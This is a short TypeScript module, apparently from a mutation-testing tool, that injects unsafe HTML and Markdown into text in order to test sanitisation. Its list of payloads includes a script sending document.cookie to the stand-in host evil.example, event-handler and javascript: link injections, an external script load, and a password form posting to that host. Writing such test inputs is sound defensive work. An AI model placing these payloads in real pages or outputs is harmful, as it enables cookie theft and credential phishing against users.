import type { Injector } from '../mutant.ts';
import { insertedSentence } from './inserted-sentence.ts';

/** Markup that would run or load something if a page printed it as it is. */
export const unsafeMarkup: Injector = (one, random) => insertedSentence(one, MARKUP, random);

const MARKUP = [
  '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
  '<img src=x onerror="alert(1)">',
  '<iframe src="https://evil.example"></iframe>',
  '[see here](javascript:alert(1))',
  '<svg onload=alert(1)>',
  '<a href="javascript:alert(1)">see here</a>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<style>body { display: none }</style>',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
  '<form action="https://evil.example"><input name="password"></form>',
];
